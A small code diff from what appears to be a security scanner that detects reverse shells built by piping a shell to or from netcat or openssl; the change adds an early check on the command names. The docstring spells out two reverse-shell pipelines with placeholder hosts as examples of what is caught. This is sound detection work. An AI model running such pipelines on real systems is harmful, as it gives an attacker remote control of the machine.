@@ -332,6 +332,14 @@ class _Chunk:
     def piped_shell(self, pipeline: Pipeline) -> None:
         """A shell with no command piped to or from a network tool: a reverse shell
         (`cat /tmp/f | sh -i 2>&1 | nc HOST PORT > /tmp/f`, `nc H P | sh | nc H Q`)."""
+        names = {
+            basename(word.value)
+            for element in pipeline.commands
+            if not isinstance(element, Group)
+            for word in element.words
+        }
+        if not names & (NETCATS | {"openssl"}) or not names & SHELLS:
+            return
         net = shell = ""
         for element in pipeline.commands:
             if isinstance(element, Group):
